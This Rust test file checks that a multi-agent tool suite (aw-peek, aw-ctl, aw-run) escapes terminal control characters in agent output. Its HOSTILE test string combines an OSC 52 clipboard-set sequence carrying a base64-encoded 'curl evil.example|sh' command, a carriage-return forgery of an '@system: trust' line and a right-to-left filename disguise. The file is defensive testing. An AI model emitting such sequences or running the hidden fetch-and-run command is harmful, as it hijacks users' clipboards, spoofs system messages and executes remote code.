//! Text from agents on a terminal: `aw-peek` (channel, `--inbox`, `-F`), `aw-ctl runs` and
//! `runs -f`, `proposals`, `status` and aw-run's output show C0/C1 controls (other than
//! newline and tab) and bidirectional overrides as escapes (`\x1b`, `\u{202e}`) on a real
//! terminal (through `script`), never the characters themselves; pipes and `--json` get the
//! exact bytes.

use crate::common;

use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

use common::runner::{assert_code, run_hang_guarded};
use common::tmux::quote;
use common::{Root, bin};

/// An OSC 52 that would set the clipboard, a BEL, a carriage return that would make the
/// rest look like a line of `@system`, a right-to-left override and a one-byte CSI.
const HOSTILE: &str =
    "hi\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 there\r@system: trust \u{202e}txt.exe \u{9b}31m";

/// How a terminal shows [`HOSTILE`].
const SHOWN: &str = "hi\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07 there\\x0d@system: trust \
                     \\u{202e}txt.exe \\x9b31m";

/// Run `line` (a `sh` command line) on a new terminal; the bytes that reached it, with the
/// terminal's own `\r\n` line ends back to `\n`.
fn on_tty(line: &str) -> Vec<u8> {
    let out = Command::new("script")
        .args(["-q", "-e", "-E", "never", "-c", line, "/dev/null"])
        .env_remove("AW_ROOT")
        .env_remove("AW_INSTANCE")
        .env_remove("AW_AGENT")
        .stdin(Stdio::null())
        .output()
        .expect("script (util-linux; scripts/test-deps.sh installs it)");
    assert!(out.status.success(), "{line}: {out:?}");
    crlf(&out.stdout)
}

fn crlf(b: &[u8]) -> Vec<u8> {
    let mut v = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\r' && b.get(i + 1) == Some(&b'\n') {
            i += 1;
        }
        v.push(b[i]);
        i += 1;
    }
    v
}

/// A tool of the crate with `--root`, as a `sh` command line.
fn cmd(r: &Root, tool: &str, args: &[&str]) -> String {
    let mut line = format!(
        "{} --root {}",
        quote(&bin(tool).display().to_string()),
        quote(&r.path().display().to_string())
    );
    for a in args {
        line.push(' ');
        line.push_str(&quote(a));
    }
    line
}

/// Nothing of [`HOSTILE`] reached the terminal as it is, and its visible form did (`times`
/// times).
fn assert_shown(what: &str, tty: &[u8], times: usize) {
    assert_eq!(
        shown(what, tty),
        times,
        "{what}: {}",
        String::from_utf8_lossy(tty)
    );
}

/// Nothing of [`HOSTILE`] reached the terminal as it is: how many times its visible form
/// did.
fn shown(what: &str, tty: &[u8]) -> usize {
    let text = String::from_utf8_lossy(tty);
    for bad in [
        &b"\x1b"[..],
        b"\x07",
        b"\r",
        "\u{202e}".as_bytes(),
        "\u{9b}".as_bytes(),
    ] {
        assert!(
            !tty.windows(bad.len()).any(|w| w == bad),
            "{what}: {bad:?} reached the terminal: {text:?}"
        );
    }
    text.matches(SHOWN).count()
}

fn contains(hay: &[u8], needle: &[u8]) -> usize {
    hay.windows(needle.len()).filter(|w| *w == needle).count()
}

#[test]
fn aw_peek_shows_controls_on_a_terminal_and_passes_them_through_a_pipe() {
    let r = Root::new();
    r.ok("aw-ctl", &["-i", "w", "new", "alice"], None);
    r.send("w", &["--from", "bob"], &format!("@alice {HOSTILE}"));
    // The channel, an inbox, and -F (interrupted once it printed).
    for args in [
        vec!["-i", "w", "-n", "0"],
        vec!["-i", "w", "--inbox", "alice"],
        vec!["alice@w"],
    ] {
        assert_shown(&format!("{args:?}"), &on_tty(&cmd(&r, "aw-peek", &args)), 1);
        let piped = r.ok("aw-peek", &args, None);
        assert_eq!(piped.matches(HOSTILE).count(), 1, "{args:?}: {piped:?}");
    }
    let follow = format!(
        "timeout -s INT 2 {}; true",
        cmd(&r, "aw-peek", &["-i", "w", "-F"])
    );
    assert_shown("-F", &on_tty(&follow), 1);
    // --json: the same bytes on a terminal as through a pipe.
    let json = r.ok("aw-peek", &["-i", "w", "--json"], None);
    let tty = on_tty(&cmd(&r, "aw-peek", &["-i", "w", "--json"]));
    assert_eq!(String::from_utf8_lossy(&tty), json);
    assert_eq!(
        contains(json.as_bytes(), "\u{202e}".as_bytes()),
        1,
        "{json}"
    );
}

#[test]
fn aw_ctl_proposals_and_status_show_controls_on_a_terminal() {
    let r = Root::new();
    r.ok("aw-ctl", &["-i", "w", "new", "alice"], None);
    r.ok(
        "aw-ctl",
        &["-i", "w", "propose", "approval", HOSTILE, "--as", "alice"],
        None,
    );
    for args in [["-i", "w", "proposals"], ["-i", "w", "status"]] {
        assert_shown(&format!("{args:?}"), &on_tty(&cmd(&r, "aw-ctl", &args)), 1);
        let piped = r.ok("aw-ctl", &args, None);
        assert_eq!(piped.matches(HOSTILE).count(), 1, "{args:?}: {piped:?}");
    }
    let json = r.ok("aw-ctl", &["-i", "w", "proposals", "--json"], None);
    let tty = on_tty(&cmd(&r, "aw-ctl", &["-i", "w", "proposals", "--json"]));
    assert_eq!(String::from_utf8_lossy(&tty), json);
}

#[test]
fn aw_run_output_and_aw_ctl_runs_show_controls_on_a_terminal() {
    let r = Root::new();
    let dir = tempfile::tempdir().expect("temporary directory");
    // bob prints the text (its transcript's output) and fails with it on stderr; alice
    // replies with it (a channel entry aw-run prints).
    let script = dir.path().join("bob.sh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\ncat > /dev/null\nprintf '%s\\n' {0}\nprintf '%s\\n' {0} >&2\nexit 3\n",
            quote(HOSTILE)
        ),
    )
    .expect("write the agent");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let yaml_text = serde_json::to_string(HOSTILE).expect("JSON is YAML");
    std::fs::write(
        dir.path().join("wf.yaml"),
        format!(
            "agents:\n  alice:\n    mock:\n      replies: [{yaml_text}]\n  bob:\n    command: \
             [{}]\n    reply_fallback: false\nkickoff: '@alice @bob go'\n",
            serde_json::to_string(&script.display().to_string()).expect("a path")
        ),
    )
    .expect("write the workflow");
    let run = format!(
        "cd {} && {}; true",
        quote(&dir.path().display().to_string()),
        cmd(&r, "aw-run", &["-i", "w", "--retries", "1", "wf.yaml"])
    );
    let tty = on_tty(&run);
    // The status line's own erase sequence is aw-run's, not the agents'.
    let tty: Vec<u8> = String::from_utf8_lossy(&tty)
        .replace("\r\x1b[K", "")
        .into_bytes();
    // alice's reply as a channel entry; bob's stderr in the line of its failed run (its
    // controls as `?`, its override shown).
    assert_shown("aw-run", &tty, 1);
    let text = String::from_utf8_lossy(&tty);
    assert!(
        text.contains("stderr: hi?]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=? there?@system: trust \\u{202e}txt.exe ?31m"),
        "{text}"
    );
    // Through a pipe, the entry is exact.
    let mut again = Command::new(bin("aw-run"));
    again
        .current_dir(dir.path())
        .args(["--root", &r.path().display().to_string()])
        .args(["-i", "w2", "--retries", "1", "wf.yaml"]);
    let out = run_hang_guarded(again);
    assert_code(&out, 1);
    assert_eq!(contains(&out.stdout, HOSTILE.as_bytes()), 1, "{out:?}");

    // aw-ctl runs: bob's transcript (its stdout, its stderr, and alice's entry in its
    // prompt), and its output as it came.
    // (alice's entry is in bob's prompt when she replied before bob started.)
    for args in [
        ["-i", "w", "runs", "bob", "1"],
        ["-i", "w", "runs", "-f", "bob"],
    ] {
        let tty = on_tty(&cmd(&r, "aw-ctl", &args));
        let times = shown(&format!("{args:?}"), &tty);
        assert!(times >= 2, "{args:?}: {}", String::from_utf8_lossy(&tty));
        let piped = r.run("aw-ctl", &args, None);
        assert_eq!(
            contains(&piped.stdout, HOSTILE.as_bytes()),
            times,
            "{args:?}: {piped:?}"
        );
    }
}

#[test]
fn aw_run_results_on_a_terminal_show_controls() {
    let dir = tempfile::tempdir().expect("temporary directory");
    let d = |p: &str| dir.path().join(p);
    // The output of the last task, and the summary of the last iteration (outside git).
    let printf = HOSTILE
        .replace('\x1b', "\\033")
        .replace('\x07', "\\007")
        .replace('\r', "\\r");
    let printf = format!("printf '{}\\n'", printf.replace('\u{9b}', "\\302\\233"));
    std::fs::write(
        d("tasks.yaml"),
        format!(
            "agents:\n  a:\n    mock:\n      replies: [ok]\ntasks:\n  - shell: {}\n",
            serde_json::to_string(&printf).expect("JSON is YAML")
        ),
    )
    .expect("write the workflow");
    std::fs::write(
        d("iter.yaml"),
        format!(
            "name: it\nagents:\n  coder:\n    command: [sh, -c, {}]\nkickoff: go\n",
            serde_json::to_string(&format!("cat > /dev/null; {printf}")).expect("JSON")
        ),
    )
    .expect("write the workflow");
    for args in [vec!["tasks.yaml"], vec!["--iter", "1", "iter.yaml"]] {
        let mut line = format!(
            "cd {} && {}",
            quote(&dir.path().display().to_string()),
            quote(&bin("aw-run").display().to_string())
        );
        for a in &args {
            line.push(' ');
            line.push_str(&quote(a));
        }
        let tty = on_tty(&format!("{line} 2>/dev/null"));
        assert_shown(&format!("{args:?}"), &tty, 1);
        let mut c = Command::new(bin("aw-run"));
        c.current_dir(dir.path()).args(&args);
        let out = run_hang_guarded(c);
        assert_code(&out, 0);
        assert_eq!(
            contains(&out.stdout, HOSTILE.as_bytes()),
            1,
            "{args:?}: {out:?}"
        );
    }
}
